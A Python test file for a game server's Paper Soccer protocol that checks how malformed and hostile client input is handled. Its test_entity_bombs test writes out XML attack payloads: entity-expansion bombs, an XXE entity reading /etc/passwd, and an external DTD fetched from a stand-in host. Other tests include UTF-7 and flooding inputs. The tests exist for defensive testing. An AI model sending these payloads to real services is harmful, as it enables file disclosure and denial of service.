"""Wrong and hostile input of Paper Soccer."""

from collections.abc import Iterable

from gamehost.games.base import Cause
from gamehost.journal.records import TableId
from gamehost.testing.cases import PropertyCase
from gamehost.wires.paper_soccer.messages import Point
from tests.kit.memory_host import MemoryHost
from tests.kit.wires.paper_soccer_talk import (
    ACCEPTED,
    READ_AT_ONCE,
    SHUTDOWN,
    WIRE,
    Table,
    error,
    game_id,
    leave,
    login,
    message,
    move,
    over,
    points,
    refused,
    state,
    thanks,
)

#: A game that ann, who moves first, is about to end: the ball lies at (1, 4).
BEFORE_THE_POST: tuple[Point, ...] = ((1, 1), (1, 2), (1, 3), (1, 4))


def play(table: Table, moves: Iterable[tuple[Point, ...]]) -> None:
    for number, played in enumerate(moves):
        (table.bob if number % 2 else table.ann).say(move(*played))
    table.hush()


class WrongInputTests(PropertyCase):
    def assert_refused(self, said: str | bytes, table: Table | None = None) -> None:
        table = table or Table()
        before = len(table.world.journal.entries[TableId(1)])
        table.ann.send(said if isinstance(said, bytes) else said.encode())
        heard = table.ann.heard()
        self.assertEqual(len(heard), 1, (said, heard))
        self.assertTrue(heard[0].startswith('<message type="error">'), (said, heard))
        self.assertEqual((table.bob.heard(), len(table.world.journal.entries[TableId(1)])), ([], before))
        self.assertEqual(table.ann.ask(move((0, 1))), [state("bob", (0, 1))], said)

    def assert_ended(self, said: bytes) -> None:
        table = Table()
        table.ann.send(said + b"\n" + move((0, 1)).encode())
        heard = table.ann.heard()
        self.assertEqual(len(heard), 1, (said[:60], heard))
        self.assertTrue(heard[0].startswith('<message type="error">'), heard)
        table.world.wait(2)
        self.assertTrue(table.ann.closed, said[:60])
        self.assertEqual([line for line in table.bob.heard() if "playerLeftGame" not in line], [])
        self.assertEqual(table.come("ann").heard(), [ACCEPTED, state("ann")])

    def assert_loses(self, *played: Point, after: Iterable[tuple[Point, ...]] = ()) -> None:
        table = Table()
        play(table, after)
        table.ann.say(move(*played))
        self.assertEqual(table.illegal(table.ann), [over("bob", "ann")], played)
        self.assertIn(Cause.VIOLATION.value, table.world.journal.entries[TableId(1)][-1].outcome)

    def test_entity_bombs(self) -> None:
        for bomb in (
            b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;">]><message>&lol1;</message>',
            b'<!DOCTYPE a [<!ENTITY a "' + b"a" * 8_000 + b'">]><message>' + b"&a;" * 2_000 + b"</message>",
            b'<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><message>&xxe;</message>',
            b'<!DOCTYPE a [<!ENTITY % pe SYSTEM "http://192.0.2.1/evil.dtd">%pe;]><message/>',
        ):
            self.assert_ended(bomb)
            self.assert_ended(b"<message type='move'>" + bomb)
            self.assert_ended(bomb[:2])

    def test_document_types(self) -> None:
        """However harmless; and entities of no document type."""
        self.assert_ended(b'<!DOCTYPE message [<!ENTITY ann "ann">]><message type="logout"/>')
        self.assert_ended(b"<!DOCTYPE message>" + message("logout").encode())
        self.assert_ended(message("error", "&ann;").encode())
        self.assert_ended(message("error", "&#xFFFFFFFF;").encode())

    def test_depth_attributes_and_namespaces(self) -> None:
        self.assert_ended(b"<a>" * 257)
        self.assert_ended(b"<a>" * 100_000)
        self.assert_ended(b"<message " + b" ".join(b"a%d=''" % n for n in range(100_000)) + b"/>")
        self.assert_ended(b"<message " + b" ".join(b"xmlns:a%d='u'" % n for n in range(20_000)) + b"/>")
        self.assert_ended(b"<message " + b" ".join(b"a%d=''" % n for n in range(1_500)) + b"/>")
        self.assert_ended(b"<message>" + b"<a/>" * 320 + b"</message>")

    def test_an_attribute_without_end(self) -> None:
        """Ended at the limit, however it is fed, and no more than the limit is kept."""
        for size in (16, 1_000, 65_536):
            table = Table(READ_AT_ONCE)
            sent = 0
            while not table.ann.transport.disconnecting and not table.ann.closed:
                table.ann.transport.receive((b"<message type='" if not sent else b"") + b"a" * size)
                sent += size
                self.assertLess(sent, 16_384 + 65_536)
            self.assertLessEqual(sent, 16_384 + size)
            self.assertIn("16384", table.ann.heard()[0])

    def test_other_encodings(self) -> None:
        said = message("logout")
        for data in (
            said.encode("utf-16"),
            said.encode("utf-16-le"),
            said.encode("utf-16-be"),
            said.encode("utf-32"),
            b"+ADw-message type='logout'/+AD4-",
            b"\xef\xbb\xbf" + said.encode(),
            b'<?xml version="1.0" encoding="ISO-8859-1"?>' + said.encode(),
            b'<?xml version="1.0" encoding="UTF-16"?>' + said.encode(),
            b'<?xml version="1.0" encoding="UTF-7"?>' + said.encode(),
            login("\xfcn\xfc").encode("latin-1"),
        ):
            self.assert_ended(data)

    def test_comments_instructions_cdata_and_text(self) -> None:
        for strange in (b"<!-- -->", b"<?php 1?>", b"<![CDATA[1]]>"):
            self.assert_ended(strange)
            self.assert_ended(b"<message type='move'><move>" + strange + b"<point x='0' y='1'/></move></message>")
        self.assert_refused(message("move", f"<move>{points((0, 0))}, {points((1, 1))}</move>"))
        self.assert_refused("<point x='0' y='1'/>,<point x='0' y='2'/>\n".replace(",", "<point>,</point>"))
        self.assert_ended(b"<point x='0' y='1'/>,<point x='0' y='2'/>")

    def test_points_that_are_none(self) -> None:
        for point in (
            "<point/>",
            "<point x='0'/>",
            "<point x='0' y='1' z='2'/>",
            "<point x='0' x='1' y='1'/>",
            "<point x='0' y='1'><point x='0' y='1'/></point>",
            "<point x='0' y='1'>0</point>",
            "<Point x='0' y='1'/>",
            "<pt x='0' y='1'/>",
            "<p:point x='0' y='1'/>",
            "<p:point xmlns:p='u' x='0' y='1'/>",
            "<point p:x='0' y='1'/>",
            "<point xmlns='u' x='0' y='1'/>",
            "<point xml:lang='en' x='0' y='1'/>",
        ):
            self.assert_refused(message("move", f"{game_id(1)}<move>{point}</move>"))
            self.assert_refused(point + "\n")

    def test_numbers_that_are_none(self) -> None:
        digits = ("1.0", "+1", " 1", "1 ", "1_0", "", "01", "-0", "-01", "--1", "1e0", "0x1", "٣", "²", "\u2212" + "1")
        for number in (*digits, "1000", "9" * 5_000):
            self.assert_refused(message("move", f"<move><point x='{number}' y='1'/></move>"))
            self.assert_refused(f"<point x='1' y='{number}'/>\n")
        self.assert_ended(f"<point x='{'9' * 1_000_000}' y='1'/>".encode())

    def test_too_many_points(self) -> None:
        """317 cannot be a move; 316 could be, and are read (and lose here)."""
        self.assert_ended(move(*[(0, 1)] * 317).encode())
        self.assert_ended(points(*[(0, 1)] * 317).encode() + b"\n")
        self.assert_loses(*[(0, 1)] * 316)

    def test_empty_moves(self) -> None:
        """A state may be empty, a move may not: refused, not lost."""
        self.assert_refused(message("move", f"{game_id(1)}<move/>"))
        self.assert_refused(message("move", f"{game_id(1)}<move> </move>"))
        self.assert_refused(message("move", game_id(1)))

    def test_illegal_moves(self) -> None:
        self.assert_loses((0, 2))
        self.assert_loses((0, 0))
        self.assert_loses((5, 0))
        self.assert_loses((999, -999))
        self.assert_loses((0, 1), (0, 2))
        self.assert_loses((0, 0), after=[((0, 1),), ((0, 2),)])
        self.assert_loses((0, 1), after=[((0, 1),), ((0, 2),)])
        self.assert_loses((1, 5), after=[(point,) for point in BEFORE_THE_POST])
        self.assert_loses((1, 5), (2, 5), (2, 4), after=[(point,) for point in BEFORE_THE_POST])
        self.assert_loses((1, 5), (0, 6), (0, 5), after=[(point,) for point in BEFORE_THE_POST])

    def test_the_line_between_malformed_and_illegal(self) -> None:
        """What cannot be read is refused, what can be read and breaks the rules loses: neighbours on both sides."""
        for malformed, illegal in (("1000", 999), ("-1000", -999), ("05", 5), ("+4", 4), ("9.0", 9)):
            self.assert_refused(message("move", f"<move><point x='{malformed}' y='2'/></move>"))
            self.assert_loses((illegal, 2))

    def test_out_of_turn(self) -> None:
        """Even a move that no turn could make legal: a race must not lose a game."""
        table = Table()
        for played in ((0, 1), (9, 9)):
            heard = table.bob.ask(move(played))
            self.assertEqual(heard, ['<message type="error">it is the other player\'s turn</message>'])
        self.assertEqual(table.ann.ask(move((0, 1)), move((0, 9)))[0], state("bob", (0, 1)))
        self.assertEqual(table.bob.ask(move((0, 2)))[-1], state("ann", (0, 2)))

    def test_a_dead_end(self) -> None:
        table = Table()
        play(table, [((1, 1),), ((2, 2),), ((3, 3),), ((3, 4),)])
        table.ann.say(move((4, 5)))
        self.assertEqual(table.both(), [over("bob", "ann", (4, 5))])

    def test_goals(self) -> None:
        table = Table()
        play(table, [(point,) for point in BEFORE_THE_POST])
        table.ann.say(move((1, 5), (0, 6)))
        self.assertEqual(table.both(), [over("ann", "bob", (1, 5), (0, 6))])
        table = Table()
        play(table, [((0, y),) for y in range(1, 6)])
        table.bob.say(move((0, 6)))
        self.assertEqual(table.both(), [over("ann", "bob", (0, 6))])

    def test_asking_for_moves(self) -> None:
        """The server suggests nothing and lists nothing: there is no such message, and asking costs nothing."""
        for kind in ("hint", "suggest", "moves", "getMoves"):
            self.assert_refused(message(kind))


class EveryWireTests(PropertyCase):
    def test_pipelined(self) -> None:
        """A whole game in one segment, each side's turn in order: answered in order, 64 messages a turn."""
        table = Table({"limits.unlimited": "yes"})
        table.ann.say(*[message("error", "noted")] * 100, move((0, 1)))
        self.assertEqual(table.both(), [state("bob", (0, 1))])

    def test_delimiters(self) -> None:
        """64 KiB of line ends: ended by the rate."""
        table = Table()
        table.ann.send(b"\n" * 65_536)
        self.assertEqual(table.ann.heard(), ['<message type="error">too many messages</message>'])

    def test_reset_after_a_move(self) -> None:
        table = Table()
        table.ann.transport.receive(move((0, 1)).encode())
        table.ann.drop()
        self.assertEqual(table.come("ann").heard(), [ACCEPTED, state("bob", (0, 1))])

    def test_control_characters(self) -> None:
        """They are no XML, written out or as references, and come back to nobody."""
        for text in (b"\x00", b"\x1b", b"\x07", b"&#0;", b"&#27;"):
            table = Table()
            table.ann.send(b"<message type='error'>" + text + b"</message>")
            self.assertEqual(table.ann.heard(), ['<message type="error">not well-formed XML</message>'])

    def test_line_ends(self) -> None:
        table = Table()
        table.ann.send(b"\r\n\r\n" + points((0, 1)).encode() + b" \r\n\r\n")
        self.assertEqual(table.both(), [state("bob", (0, 1))])

    def test_no_room_is_said_in_the_wires_words(self) -> None:
        table = Table({"limits.connections": "2"})
        third = table.world.connect(WIRE)
        third.transport.disconnecting = False
        third.protocol.dataReceived(login("cid").encode())
        self.assertIsNone(table.world.lobby.registry.get("cid"))


class HostTests(PropertyCase):
    def test_a_stop_is_said_to_all(self) -> None:
        """In whatever state, serverShutdown is the last word; nobody forfeits by it."""
        table = Table()
        waiting, outside = table.come("cid"), table.world.connect(WIRE)
        waiting.heard()
        table.world.lobby.close()
        table.world.factories[WIRE].close("the host is stopping")
        for client in (table.ann, table.bob, waiting, outside):
            self.assertEqual(client.heard(), [SHUTDOWN])
        table.world.wait(100)
        self.assertTrue(all(client.closed for client in (table.ann, table.bob, waiting, outside)))
        self.assertEqual([entry.outcome for entry in table.world.journal.entries[TableId(1)]], [""])

    def test_other_farewells_are_errors(self) -> None:
        world = MemoryHost()
        client = world.connect(WIRE)
        world.wait(10)
        self.assertEqual(client.heard(), [error("not logged in within 10 s")])


class StrictTests(PropertyCase):
    def test_nothing_but_the_document(self) -> None:
        table = Table(strict=True)
        nothing = '<message type="error"/>'
        for said in (points((0, 1)), move((0, 1), game=None), leave(None), move((0, 1), game=2), "<hello/>", thanks()):
            self.assertEqual(table.ann.ask(said), [nothing], said)
        self.assertEqual(table.bob.ask(move((0, 1))), [nothing])
        self.assertEqual(table.ann.ask(move((0, 1))), [state("bob", (0, 1))])
        table.ann.drop()
        table.hush()
        self.assertEqual(table.come("ann").heard(), [ACCEPTED, state("bob")])
        self.assertEqual(table.bob.ask(move((0, 2))), [state("ann", (0, 2))])
        table.world.wait(1)
        self.assertEqual(table.bob.ask("hello"), [nothing])

    def test_the_end(self) -> None:
        """Thanks need their game's id, too."""
        table = Table(strict=True)
        table.ann.say(leave())
        self.assertEqual(table.bob.heard(), [over("bob", "ann")])
        self.assertEqual(table.bob.ask(thanks(None)), ['<message type="error"/>'])
        self.assertEqual(table.bob.ask(thanks()), [])

    def test_no_reasons_and_no_help(self) -> None:
        nothing = '<message type="error"/>'
        table = Table(strict=True)
        self.assertEqual(table.ann.ask(move((0, 2))), [over("bob", "ann")])
        self.assertEqual(table.ann.ask(move((0, 1))), [nothing])
        other = table.world.connect(WIRE)
        self.assertEqual(other.ask(login("bob"), login("cid", "chess")), [refused(1, ""), refused(2, "")])
        self.assertEqual(len(other.ask("<point x='0' y='1'/><pt/>")), 2)
        for opening in (b"h", b"G", b"{", b"\x16"):
            other = table.world.connect(WIRE)
            other.send(opening)
            self.assertEqual((other.heard(), other.transport.disconnecting or other.closed), ([nothing], True), opening)
